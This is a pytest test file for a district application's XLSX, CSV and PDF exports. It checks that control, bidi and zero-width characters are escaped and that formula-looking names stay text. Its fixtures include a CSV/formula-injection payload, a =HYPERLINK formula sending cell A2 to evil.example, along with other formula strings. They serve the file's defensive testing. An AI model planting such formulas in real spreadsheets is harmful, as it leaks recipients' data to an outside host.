"""The district's exports against hostile text and for the clerks who open and print them (issue #14):
control, bidi and zero-width characters written out, formula-looking names kept as text, a workbook set up
for print with real date cells, a CSV whose codes survive Excel and LibreOffice, PDFs with every font
embedded and a real creation date. The LibreOffice tests convert the files with ``soffice --headless``."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
from district_fixtures import district, document, package, uscc, write

from zgsz_desktop.district.dashboard import build_dashboard
from zgsz_desktop.district.db import open_db, transaction
from zgsz_desktop.district.exports import FLAG_COLUMNS, write_csv, write_summary_pdf, write_xlsx
from zgsz_desktop.district.importer import import_packages
from zgsz_desktop.district.roster import RosterEntry, apply_roster
from zgsz_desktop.text import hidden_characters

CORE = "nantong-zgsz-core"
IMPORTED = "2025-01-15T09:00:00+00:00"
DIGITS = "913206851234560051"  # a valid 统一社会信用代码 of digits only
DIGITS_ROSTER = "913206855655356657"
HOSTILE, FORMULA, REVERSED, DIGIT_CODED = uscc(201), uscc(202), uscc(203), DIGITS
NUL_ESC_BEL = "南通\x00零号\x1b[31m机械\x07有限公司"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
RLO_NAME = "南通\u202e司公限有械机丰瑞"
ZERO_WIDTH = "南通\u200b瑞\u200d丰纺织有限公司"
SEPARATORS = "南通\u2028换行\u2029有限公司"
ROSTER_ONLY = 30  # ordinary roster entries that never reported, for a table of some length

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not on PATH: apt-get install "
                                   "libreoffice-calc-nogui (listed in .ci/apt-test-packages.txt)")
needs_poppler = pytest.mark.skipif(shutil.which("pdffonts") is None or shutil.which("pdftotext") is None,
                                   reason="poppler-utils (pdffonts, pdftotext) is not installed")


def shown(text: str) -> str:
    from zgsz_desktop.text import visible

    return visible(text, limit=None)


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory):
    """Three reporting enterprises and a roster. The hostile names, contacts and phones are put into the
    database directly — as a package of an earlier release or a roster cell can bring them — so that what the
    importer itself lets in does not decide what the exports are tested with."""
    folder = tmp_path_factory.mktemp("exports")
    files = [write(folder, f"{code}.zgsz", package(document(CORE, code=code, name=f"企业{index}"), f"e{index}"))
             for index, code in enumerate((HOSTILE, FORMULA, REVERSED, DIGIT_CODED))]
    db = open_db(folder / "d.zgszdb")
    outcomes = import_packages(db, files, district().identity, workers=1, now=lambda: IMPORTED).outcomes
    assert [o.verdict for o in outcomes] == ["new"] * 4
    for code, name, industry, contact, phone in (
            (HOSTILE, NUL_ESC_BEL, "通用\x1b设备制造业", "王\x07工", "0513-8886\x001234"),
            (FORMULA, FORMULA_NAME, "纺织业", "@SUM(A1)", "+86 513 8886 1234"),
            (REVERSED, RLO_NAME, "纺织\u200b业", "李\u202e经理", "0513-88860000"),
            (DIGIT_CODED, "南通数码机械有限公司", "通用设备制造业", "赵经理", "0513-88861111")):
        db.execute("UPDATE enterprises SET name = ?, industry_name = ?, contact = ?, phone = ? WHERE uscc = ?",
                   [name, industry, contact, phone, code])
    roster = [RosterEntry(code, name, True, "小型", "通用设备制造业", "联系人", "0513-80000000")
              for code, name in ((HOSTILE, NUL_ESC_BEL), (FORMULA, FORMULA_NAME), (REVERSED, RLO_NAME),
                                 (DIGIT_CODED, "南通数码机械有限公司"))]
    roster += [RosterEntry(uscc(210), ZERO_WIDTH, True, "中型", "纺织\x1b业", "\x00", "0513\u202e-1234"),
               RosterEntry(uscc(211), "=1+1", False, "小型", "纺织业", "@SUM(A1)", "-8888"),
               RosterEntry(uscc(212), SEPARATORS, False, "小型", "纺织业", "周经理", "0513-82220000"),
               RosterEntry(DIGITS_ROSTER, "南通全数字代码有限公司", False, "微型", "纺织业", "吴经理", "0513-83330000")]
    roster += [RosterEntry(uscc(300 + i), f"南通名单企业{i}有限公司", i % 3 == 0, "小型", "纺织服装、服饰业",
                           "钱经理", f"0513-8{i:07d}") for i in range(ROSTER_ONLY)]
    with transaction(db):
        apply_roster(db, roster, "名单.csv", IMPORTED)
    return db


@pytest.fixture(scope="module")
def book_path(db, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_xlsx(db, 2024, tmp_path_factory.mktemp("xlsx") / "汇总")


@pytest.fixture(scope="module")
def book(book_path):
    from openpyxl import load_workbook

    return load_workbook(book_path)


def table(sheet) -> tuple[list[str], list[tuple]]:
    rows = list(sheet.iter_rows(values_only=True))
    return list(rows[0]), rows[1:]


# --------------------------------------------------------------------------- workbook


def test_hostile_text_is_written_out_and_every_row_is_kept(db, book):
    header, body = table(book["企业明细"])
    roster_only = 4 + ROSTER_ONLY
    assert len(body) == 4 + roster_only  # every enterprise, and every roster entry that never reported
    row = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    assert row[HOSTILE]["企业名称"] == "南通⟦U+0000⟧零号⟦U+001B⟧[31m机械⟦U+0007⟧有限公司"
    assert row[HOSTILE]["联系人"] == "王⟦U+0007⟧工" and row[HOSTILE]["电话"] == "0513-8886⟦U+0000⟧1234"
    assert row[HOSTILE]["行业"] == "通用⟦U+001B⟧设备制造业"
    # shown escaped although Excel would take them: a bidi override or a zero-width joiner makes a name look
    # like another
    assert row[REVERSED]["企业名称"] == "南通⟦U+202E⟧司公限有械机丰瑞" and row[REVERSED]["联系人"] == "李⟦U+202E⟧经理"
    assert row[uscc(210)]["企业名称"] == "南通⟦U+200B⟧瑞⟦U+200D⟧丰纺织有限公司"
    assert row[uscc(210)]["电话"] == "0513⟦U+202E⟧-1234" and row[uscc(210)]["联系人"] == "⟦U+0000⟧"
    assert row[uscc(212)]["企业名称"] == "南通⟦U+2028⟧换行⟦U+2029⟧有限公司"
    _, missing = table(book["未报送"])
    assert len(missing) == roster_only
    assert {r[0]: r[1] for r in missing}[uscc(210)] == shown(ZERO_WIDTH)
    for sheet in book.worksheets:  # nothing hidden is left anywhere
        for values in sheet.iter_rows(values_only=True):
            assert not [v for v in values if isinstance(v, str) and hidden_characters(v)], (sheet.title, values)


def test_formula_looking_text_stays_text(book, book_path):
    detail = book["企业明细"]
    cells = {row[0].value: row for row in detail.iter_rows(min_row=2)}
    name = cells[FORMULA][1]
    assert name.value == FORMULA_NAME and name.data_type == "s"
    assert cells[FORMULA][20].value == "@SUM(A1)" and cells[FORMULA][20].data_type == "s"
    roster = {row[0].value: row for row in book["未报送"].iter_rows(min_row=2)}
    assert roster[uscc(211)][1].value == "=1+1" and roster[uscc(211)][1].data_type == "s"
    with zipfile.ZipFile(book_path) as archive:  # and no formula anywhere in the file
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_the_last_import_is_a_date_time_cell_in_local_time(book):
    header, _ = table(book["企业明细"])
    column = header.index("最近导入时间")
    cells = {row[0].value: row[column] for row in book["企业明细"].iter_rows(min_row=2)}
    cell = cells[HOSTILE]
    assert cell.is_date and cell.number_format == "yyyy-mm-dd hh:mm"
    assert cell.value == datetime.fromisoformat(IMPORTED).astimezone().replace(tzinfo=None)
    assert cells[uscc(300)].value is None  # never imported: empty, not ""


def test_codes_are_text_cells(book):
    cells = {row[0].value: row[0] for row in book["企业明细"].iter_rows(min_row=2)}
    assert cells[DIGITS].data_type == "s" and cells[DIGITS].number_format == "@"
    assert cells[DIGITS_ROSTER].data_type == "s"


def test_every_sheet_is_set_up_to_print(book):
    assert book.sheetnames[:3] == ["汇总", "企业明细", "未报送"] and book.sheetnames[-1] == "说明"
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and str(setup.paperSize) == "9", sheet.title  # A4
        assert setup.fitToWidth == 1 and setup.fitToHeight == 0, sheet.title  # one page wide, as long as it takes
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.print_title_rows and sheet.print_title_rows.replace("$", "") == "1:1", sheet.title
        assert sheet.freeze_panes, sheet.title
        assert "&A" in (sheet.oddHeader.right.text or "") and "&P" in (sheet.oddFooter.center.text or ""), sheet.title
        assert "海安市" in (sheet.oddHeader.left.text or "")
    detail = book["企业明细"]
    assert detail.freeze_panes == "C2"  # the header row and the code and name columns stay in view
    assert all(cell.alignment.wrap_text for cell in detail[1])
    assert detail.row_dimensions[1].height >= 3 * 14  # "数字化研发设计工具普及率(%)" takes lines
    widths = [detail.column_dimensions[letter].width for letter in ("A", "B", "C")]
    assert widths[0] >= 19 and widths[1] >= 28  # an 18-character code, a company name


def test_the_flags_sheet_lists_the_boards_flags(db, tmp_path):
    from openpyxl import load_workbook
    from pypdf import PdfReader

    board = build_dashboard(db, 2024, verify_log=True)
    # stand-ins with the attributes of plausibility.Flag (the export reads nothing else)
    board.flags = [
        SimpleNamespace(kind="not_on_roster", label="不在名单中", uscc=uscc(203), enterprise=RLO_NAME,
                        period="2024年度", package_id="7e57c0de-0000-4000-8000-000000000001",
                        message="该企业不在本区县名单中，请核实。"),
        SimpleNamespace(kind="limit", label="数值异常", uscc=FORMULA, enterprise=FORMULA_NAME, period="2024年度",
                        package_id="7e57c0de-0000-4000-8000-000000000002",
                        message="一家企业一年完成 40 个项目，请核实。"),
    ]
    book = load_workbook(write_xlsx(db, 2024, tmp_path / "x.xlsx", board))
    assert book.sheetnames.index("核查提示") == len(book.sheetnames) - 2  # just before 说明
    header, rows = table(book["核查提示"])
    assert tuple(header) == FLAG_COLUMNS == ("类型", "统一社会信用代码", "企业", "评估期", "报告包", "说明")
    assert [r[0] for r in rows] == ["不在名单中", "数值异常"]
    assert rows[0][2] == "南通⟦U+202E⟧司公限有械机丰瑞" and rows[1][2] == FORMULA_NAME
    assert rows[1][4] == "7e57c0de-0000-4000-8000-000000000002" and rows[1][5].startswith("一家企业")
    cell = book["核查提示"]["C3"]
    assert cell.data_type == "s"
    notes = [r[0] for r in book["说明"].iter_rows(values_only=True) if r[0]]
    assert any(n.startswith("核查提示：2 条") and "不在名单中 1 条" in n for n in notes)

    pdf = write_summary_pdf(db, 2024, tmp_path / "x.pdf", board)
    text = "".join(page.extract_text() for page in PdfReader(pdf).pages).replace(" ", "")
    assert "核查提示（2条" in text and "一家企业一年完成40个项目" in text

    board.flags = []
    book = load_workbook(write_xlsx(db, 2024, tmp_path / "y.xlsx", board))
    assert "核查提示" not in book.sheetnames
    assert "核查提示：无。" in [r[0] for r in book["说明"].iter_rows(values_only=True)]


# --------------------------------------------------------------------------- CSV


def test_the_csv_keeps_codes_whole_and_shows_hidden_characters(db, tmp_path):
    raw = write_csv(db, 2024, tmp_path / "企业").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel and LibreOffice's import dialog read UTF-8 from the BOM
    text = raw.decode("utf-8-sig")
    assert not text.startswith("sep=")  # Excel would then ignore the BOM
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "统一社会信用代码" and len(rows) == 1 + 8 + ROSTER_ONLY
    body = {row[0]: row for row in rows[1:]}
    # a tab before every code: Excel, WPS and LibreOffice keep it as text instead of 9.13206851234560E+17
    assert all(code.startswith("\t") for code in body)
    assert f'"\t{DIGITS}"' in text and f'"\t{DIGITS_ROSTER}"' in text  # quoted: the tab stays in its field
    assert body["\t" + HOSTILE][1] == "南通⟦U+0000⟧零号⟦U+001B⟧[31m机械⟦U+0007⟧有限公司"
    assert body["\t" + REVERSED][1] == "南通⟦U+202E⟧司公限有械机丰瑞"
    assert body["\t" + FORMULA][1] == "'" + FORMULA_NAME  # never run as a formula
    assert body["\t" + uscc(211)][20] == "'@SUM(A1)"
    assert body["\t" + HOSTILE][19] == datetime.fromisoformat(IMPORTED).astimezone().strftime("%Y-%m-%d %H:%M")
    for row in rows:
        assert not [v for v in row[1:] if hidden_characters(v)], row
    assert "\n" not in "".join(text.splitlines())  # one line per record: no line separator got through


# --------------------------------------------------------------------------- PDFs


@needs_poppler
def test_the_summary_pdf_embeds_every_font_and_says_what_it_is(db, tmp_path):
    from pypdf import PdfReader

    pdf = write_summary_pdf(db, 2024, tmp_path / "汇总.pdf")
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
    listed = fonts.splitlines()[2:]
    assert listed and "Helvetica" not in fonts
    for line in listed:  # name type encoding emb sub uni object ID
        assert line.split()[-5] == "yes", line
    reader = PdfReader(pdf)
    meta = reader.metadata
    assert meta.title == "海安市制造业智改数转进展汇总（2024年）" and meta.author == "海安市"
    assert meta.subject and "2024" in meta.subject and meta.creator.startswith("智改数转企业自评估")
    assert abs(meta.creation_date - datetime.now(timezone.utc)) < timedelta(minutes=10)
    text = "".join(page.extract_text() for page in reader.pages)
    assert "〔U+200B〕" in text and "〔U+202E〕" in text  # the roster's hidden characters, written out
    assert "\u202e" not in text and "\x00" not in text


@needs_poppler
def test_the_report_pdf_is_dated_when_it_was_made(tmp_path):
    from pypdf import PdfReader

    from zgsz_desktop.demo import demo_documents
    from zgsz_desktop.report import build_report, from_documents

    made = datetime(2025, 1, 15, 17, 30, tzinfo=timezone(timedelta(hours=8)))  # the package's export time
    path = tmp_path / "report.pdf"
    build_report(from_documents(demo_documents(), generated_on=date(2025, 1, 15), created_at=made), path)
    assert PdfReader(path).metadata.creation_date == made
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    assert "2025" in next(line for line in info.splitlines() if line.startswith("CreationDate"))
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])

    build_report(from_documents(demo_documents()), path)  # no export time: now, never 2000-01-01
    created = PdfReader(path).metadata.creation_date
    assert abs(created - datetime.now(timezone.utc)) < timedelta(minutes=10)


# --------------------------------------------------------------------------- opened in LibreOffice


def soffice(tmp_path: Path, *args: str) -> None:
    """Run LibreOffice headless with a profile and HOME of its own (works as root and beside a running
    LibreOffice), with the app's CJK font installed for it so that pages show Chinese, not boxes."""
    home = tmp_path / "soffice-home"
    fonts = home / ".fonts"
    fonts.mkdir(parents=True, exist_ok=True)
    from zgsz_desktop.report.fonts import font_path

    shutil.copy(font_path(), fonts / font_path().name)
    env = {**os.environ, "HOME": str(home)}
    result = subprocess.run([SOFFICE, f"-env:UserInstallation={(home / 'profile').as_uri()}", "--headless",
                             "--norestore", *args], env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-2000:]


@needs_soffice
@needs_poppler
def test_libreoffice_prints_each_enterprise_row_on_one_page_width(book_path, book, tmp_path):
    from pypdf import PdfReader

    out = tmp_path / "pdf"
    soffice(tmp_path, "--convert-to", "pdf", "--outdir", str(out), str(book_path))
    pdf = out / (book_path.stem + ".pdf")
    pages = PdfReader(pdf).pages
    assert all(page.mediabox.width > page.mediabox.height for page in pages)  # landscape
    # before issue #14: 13 portrait pages, each enterprise row split over 6
    assert len(pages) <= len(book.sheetnames) + 2
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout
    printed = [page.splitlines() for page in text.split("\f")]
    header, body = table(book["企业明细"])
    checked = 0
    for row in body:
        code, phone = row[0], row[header.index("电话")]
        if not (phone and phone.isascii()):
            continue
        # the code (first column) and the phone (last column) are printed on one page, side by side (a line
        # apart at most: "⟦" comes from a fallback font whose taller ascent can lower a cell's baseline)
        assert any(code in line and any(phone in near for near in lines[max(0, i - 1):i + 2])
                   for lines in printed for i, line in enumerate(lines)), (code, phone)
        checked += 1
    assert checked >= ROSTER_ONLY


@needs_soffice
def test_libreoffice_reads_the_csv_with_codes_whole_and_chinese_intact(db, tmp_path):
    from openpyxl import load_workbook

    path = write_csv(db, 2024, tmp_path / "企业明细.csv")
    out = tmp_path / "converted"
    # LibreOffice's Text Import dialog, as a clerk gets it on opening the file: separators tab, comma and
    # semicolon, text delimiter ", and UTF-8, which it preselects from the BOM (76). The headless converter
    # shows no dialog and ignores the BOM, so the options are given.
    soffice(tmp_path, "--infilter=CSV:9/44/59,34,76,1", "--convert-to", "xlsx", "--outdir", str(out), str(path))
    rows = list(load_workbook(out / "企业明细.xlsx").active.iter_rows(values_only=True))
    assert rows[0][:3] == ("统一社会信用代码", "企业名称", "行业") and len(rows) == 1 + 8 + ROSTER_ONLY
    assert all(len(row) == 22 for row in rows)  # no field split at a tab or ";"
    codes = {row[0].strip(): row for row in rows[1:]}
    assert all(isinstance(row[0], str) for row in rows[1:])  # text, never a number
    assert DIGITS in codes and DIGITS_ROSTER in codes  # whole, not 9.13206851234560E+17
    assert codes[DIGITS][1] == "南通数码机械有限公司" and codes[DIGITS_ROSTER][1] == "南通全数字代码有限公司"
    assert codes[REVERSED][1] == "南通⟦U+202E⟧司公限有械机丰瑞"
    assert codes[uscc(300)][2] == "纺织服装、服饰业"
